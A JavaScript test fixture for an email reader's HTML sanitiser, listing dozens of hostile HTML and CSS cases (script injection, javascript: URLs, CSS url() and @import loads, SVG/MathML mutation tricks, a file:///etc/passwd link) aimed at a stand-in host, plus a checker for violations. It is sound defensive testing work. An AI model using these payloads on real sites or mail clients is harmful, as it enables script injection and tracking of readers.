// Hostile HTML for the reader's sanitiser (extension/outlook-web/modules/sanitize.mjs), the same
// cases in node (tests/extension/outlook-sanitize.test.mjs, with Debian's jsdom for a parser) and
// in the real Chromium (driver.mjs, with the browser's own parser, each result shown in the
// reader's sandboxed frame while the stand-ins log every request).
//
// Every way a message could load or run something points at remote.test, so a result must never
// name it; links that may stay go to example.org. `violations` states what every result must be,
// as the frame will read it (parsed again), and is self-contained: the browser suite hands its
// source to the page.

const R = "https://remote.test";
const JS = "fetch('https://remote.test/ran')";

export const HOSTILE_HTML = [
  // scripts and event handlers
  ["script elements", `<p>a</p><script>${JS}</script><script src="${R}/s.js"></script><SCRIPT>${JS}</SCRIPT><scr<script>ipt>${JS}</script>`],
  ["event handlers on kept elements", `<p onclick="${JS}" ONMOUSEOVER="${JS}">x</p><img src="x" onerror="${JS}"><details open ontoggle="${JS}"><summary>s</summary></details><a href="https://example.org/" onclick="${JS}">l</a>`],
  ["event handler on body", `<html><body onload="${JS}" onpageshow="${JS}"><p>x</p></body></html>`],
  ["noscript and template", `<noscript><img src="${R}/ns.png"><p title="</noscript><img src=${R}/nsx.png>">t</p></noscript><template><img src="${R}/t.png"></template>`],
  // URLs in every attribute that loads or navigates
  ["javascript: links in all spellings", `<a href="javascript:${JS}">1</a><a href="JaVaScRiPt:${JS}">2</a><a href="java\tscript:${JS}">3</a><a href="&#106;avascript:${JS}">4</a><a href=" javascript:${JS}">5</a><a href="vbscript:msgbox">6</a><a href="data:text/html,<script>${JS}</script>">7</a><a href="file:///etc/passwd">8</a>`],
  ["remote and scripted image sources", `<img src="${R}/pixel.png"><img src="javascript:${JS}"><img src="data:text/html,<script>${JS}</script>"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZldGNoKCdodHRwczovL3JlbW90ZS50ZXN0L3N2ZycpIi8+"><img src="&#104;ttps://remote.test/ent.png"><image src="${R}/image.png"><img src="//remote.test/proto.png">`],
  ["srcset and picture", `<img srcset="${R}/1x.png 1x, ${R}/2x.png 2x" src="data:image/png;base64,iVBORw0KGgo="><picture><source srcset="${R}/p.webp"><img src="${R}/p.png"></picture>`],
  ["lowsrc, dynsrc, longdesc, background, poster", `<img lowsrc="${R}/l.png" dynsrc="${R}/d.avi" longdesc="${R}/ld"><table background="${R}/tb.png"><tr><td background="${R}/td.png">c</td></tr></table><video poster="${R}/v.png" src="${R}/v.mp4"></video><audio src="${R}/a.mp3"></audio>`],
  ["body background", `<html><body background="${R}/body.png"><p>x</p></body></html>`],
  ["objects, embeds, applets", `<object data="${R}/o.swf"><param name="movie" value="${R}/p.swf"></object><embed src="${R}/e.swf"><applet code="A" codebase="${R}/"></applet>`],
  ["nested frames", `<iframe src="${R}/frame"></iframe><iframe srcdoc="<img src=${R}/srcdoc.png>"></iframe><iframe src="data:text/html,<img src=${R}/df.png>"></iframe><portal src="${R}/portal"></portal>`],
  ["frameset", `<html><frameset><frame src="${R}/fr"></frameset></html>`],
  ["links that prefetch or preload", `<link rel="stylesheet" href="${R}/l.css"><link rel="prefetch" href="${R}/pf"><link rel="dns-prefetch" href="${R}"><link rel="preload" as="image" href="${R}/pl.png"><a href="https://example.org/" ping="${R}/ping">p</a>`],
  ["base URL and relative sources", `<html><head><base href="${R}/"></head><body><base href="${R}/b/"><img src="relative.png"><a href="relative">r</a></body></html>`],
  ["meta refresh and policies", `<html><head><meta http-equiv="refresh" content="0; url=${R}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><meta http-equiv="refresh" content="0; url=${R}/refresh2"><p>x</p></body></html>`],
  ["forms and fields", `<form action="${R}/form" method="post"><input name="q" value="secret"><input type="image" src="${R}/i.png"><button formaction="${R}/fa">Go</button><textarea>t</textarea><select><option>o</option></select>form text</form><isindex action="${R}/isindex">`],
  ["area and map", `<map name="m"><area href="${R}/area" shape="rect" coords="0,0,1,1"></map><img usemap="#m" src="data:image/png;base64,iVBORw0KGgo=">`],
  // CSS
  ["style sheet imports", `<style>@import '${R}/i.css'; @import url(${R}/u.css); @IMPORT "${R}/c.css" screen; p { color: red }</style><p>x</p>`],
  ["style sheet urls", `<style>body { background: url(${R}/b.png) } p { background-image: url("${R}/q.png"); color: red } li { list-style: url('${R}/li.png') } a { cursor: url(${R}/c.cur), auto } q::before { content: url(${R}/ct.png) } div { border-image: url(${R}/bi.png) 30; mask: url(${R}/m.svg) }</style><p>x</p>`],
  ["style sheet escapes and comments", `<style>p { background: \\75 rl(${R}/esc.png) } q { background: u\\rl(${R}/esc2.png) } b { background: url(/**/${R}/cm.png) } i { background:/**/url(${R}/cm2.png) }</style><p>x</p>`],
  ["image-set, image(), cross-fade, element, src()", `<style>p { background: image-set("${R}/is.png" 1x) } q { background: -webkit-image-set(url(${R}/wis.png) 1x) } b { background: image("${R}/img.png") } i { background: -webkit-cross-fade(url(${R}/cf1.png), url(${R}/cf2.png), 50%) } u { background: src("${R}/src.png") }</style><p>x</p>`],
  ["legacy CSS code", `<style>p { width: expression(${JS}) } q { behavior: url(${R}/b.htc) } b { -moz-binding: url(${R}/x.xml#x) }</style><p style="width: expression(${JS})">x</p>`],
  ["font faces and namespaces", `<style>@font-face { font-family: x; src: url(${R}/f.woff2) format("woff2") } @namespace svg url(${R}/ns); p { font-family: x }</style><p>x</p>`],
  ["url in @media and @supports", `<style>@media all { p { background: url(${R}/media.png) } } @supports (display: grid) { q { background: url(${R}/sup.png) } }</style><p>x</p>`],
  ["custom properties", `<style>p { --x: url(${R}/var.png); background: var(--x) } q { --y: "${R}/str.png"; background: image-set(var(--y) 1x) }</style><p>x</p><q>y</q>`],
  ["leaving the style element", `<style>p{}</style><img src=${R}/after.png></style><p>x</p><div style="x: '</style><img src=${R}/attr.png>'">y</div>`],
  ["style attributes", `<p style="background: url(${R}/sa.png)">a</p><p style="background-image:url(&quot;${R}/quot.png&quot;)">b</p><p style="background: \\75 rl(${R}/sae.png)">c</p><p style="color: red; background: image-set('${R}/sai.png' 1x)">d</p>`],
  // SVG and MathML
  ["SVG", `<svg><image href="${R}/svg.png"/><use href="${R}/u.svg#a"/><script>${JS}</script><a xlink:href="javascript:${JS}"><text>t</text></a><animate attributeName="href" values="javascript:${JS}"/><foreignObject><img src="${R}/fo.png"></foreignObject><style>@import '${R}/svgstyle.css';</style></svg>`],
  ["MathML", `<math><mtext><table><mglyph><style><img src=${R}/mglyph.png></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:${JS}">m</maction></math>`],
  ["namespace confusion", `<svg></p><style><a id="</style><img src=${R}/confused.png>"></a></style></svg><math><mi><svg><style><img src=${R}/mi.png></style></svg></mi></math>`],
  // parser corners
  ["comments", `<!--><img src=${R}/c1.png>--><!-- --!><img src=${R}/c2.png> --><p>x</p>`],
  ["raw text elements", `<xmp><img src=${R}/xmp.png></xmp><noembed><img src=${R}/noembed.png></noembed><noframes><img src=${R}/noframes.png></noframes><textarea><img src=${R}/ta.png></textarea><title><img src=${R}/title.png></title>`],
  ["plaintext", `<p>before</p><plaintext><img src=${R}/plain.png>`],
  ["deep nesting", `${"<div>".repeat(3000)}<img src="${R}/deep.png"><p style="background:url(${R}/deepstyle.png)">deep</p>`],
  ["link targets", `<a href="https://example.org/a" target="_top">top</a><a href="https://example.org/b" target="_self" rel="opener">self</a><a href="mailto:alice@example.org?subject=x">mail</a>`],
  ["custom elements and unknown tags", `<custom-el src="${R}/ce.png" onclick="${JS}"><p>inside</p></custom-el><blink>b</blink><marquee onstart="${JS}">m</marquee><keygen src="${R}/k">`],
  ["dialog, slot, fenced frames", `<dialog open><img src="${R}/dlg.png"></dialog><slot><img src="${R}/slot.png"></slot><fencedframe src="${R}/ff"></fencedframe>`],
];

/** A legitimate message: what it says and its formatting must survive. */
export const FRIENDLY_HTML = `<html><head><style>div > p { margin: 0 } .note { color: #555 } @media (max-width: 600px) { p { font-size: 12px } }</style></head>
<body><h1>Grüße, Bob</h1><div><p class="note" style="color: green; font-weight: bold">The <b>HTML</b> version.</p></div>
<table border="1" cellpadding="2"><tr><td bgcolor="#eeeeee">cell</td></tr></table>
<a href="https://example.org/info">More</a> <img src="cid:logo@x" alt="logo" width="16" height="16">
<p dir="rtl" lang="he">שלום‏ עולם</p><p>فارسی‌نویسی 👨‍👩‍👧</p></body></html>`;

/**
 * What is wrong with a sanitised document as the frame reads it: a list of texts, empty when all
 * is well. `rules`: {frameCsp, elements, attributes} from sanitize.mjs. No imports, no closures.
 */
export function violations(doc, rules) {
  const found = [];
  const elements = new Set([...rules.elements]);
  const attributes = new Set([...rules.attributes]);
  const inlineImage = /^data:image\/(?:png|gif|jpe?g|webp|bmp|avif);base64,[A-Za-z0-9+/=\s]*$/i;
  const forbiddenCss = /[\\<]|url\s*\(|image-set\s*\(|image\s*\(|cross-fade\s*\(|element\s*\(|src\s*\(|paint\s*\(|expression\s*\(|@import|@font-face|-moz-binding|(?<![\w-])behavior\s*:/i;
  const allowedUrl = /url\(\s*(["']?)data:image\/(?:png|gif|jpe?g|webp|bmp|avif);base64,[A-Za-z0-9+/=]*\1\s*\)/gi;
  const css = (text, where) => {
    if (forbiddenCss.test(String(text).replace(allowedUrl, ""))) found.push(`${where}: ${String(text).slice(0, 120)}`);
  };
  const head = [...doc.head.children];
  const first = head[0];
  if (!first || first.localName !== "meta" || first.getAttribute("http-equiv") !== "Content-Security-Policy" || first.getAttribute("content") !== rules.frameCsp) {
    found.push("the policy is not the head's first element");
  }
  for (const node of head.slice(1)) {
    if (node.localName === "style") css(node.textContent, "style element");
    else if (!(node.localName === "meta" && node.getAttribute("charset") && node.attributes.length === 1)) found.push(`in the head: <${node.localName}>`);
  }
  if ([...doc.documentElement.children].some((n) => n !== doc.head && n !== doc.body)) found.push("something beside head and body");
  for (const a of [...doc.documentElement.attributes, ...doc.body.attributes]) found.push(`attribute ${a.name} on <${a.ownerElement.localName}>`);
  for (const node of doc.body.querySelectorAll("*")) {
    const name = node.localName;
    if (node.namespaceURI !== "http://www.w3.org/1999/xhtml" || !elements.has(name)) found.push(`element <${name}>`);
    for (const { name: attr, value } of node.attributes) {
      const ok = attributes.has(attr)
        || attr === "style"
        || (name === "a" && ["href", "target", "rel"].includes(attr))
        || (name === "img" && ["src", "data-blocked"].includes(attr));
      if (!ok || /^on/i.test(attr)) found.push(`attribute ${attr} on <${name}>`);
      if (attr === "style") css(value, `style of <${name}>`);
    }
    if (name === "a" && node.hasAttribute("href")) {
      if (!/^(?:https?:\/\/|mailto:)/i.test(node.getAttribute("href"))) found.push(`link to ${node.getAttribute("href")}`);
      if (node.getAttribute("target") !== "_blank" || node.getAttribute("rel") !== "noopener noreferrer") found.push("a link that does not open on its own");
    }
    if (name === "img" && node.hasAttribute("src") && !inlineImage.test(node.getAttribute("src"))) found.push(`image from ${node.getAttribute("src").slice(0, 60)}`);
  }
  // Wherever an address could be taken from, none of the hostile ones is left.
  const addresses = [...doc.querySelectorAll("[href], [src], [style], style")].map((n) => `${n.getAttribute("href")} ${n.getAttribute("src")} ${n.getAttribute("style")} ${n.localName === "style" ? n.textContent : ""}`);
  for (const word of ["remote.test", "javascript:", "vbscript:"]) if (addresses.some((a) => a.toLowerCase().includes(word))) found.push(`names ${word}`);
  return found;
}
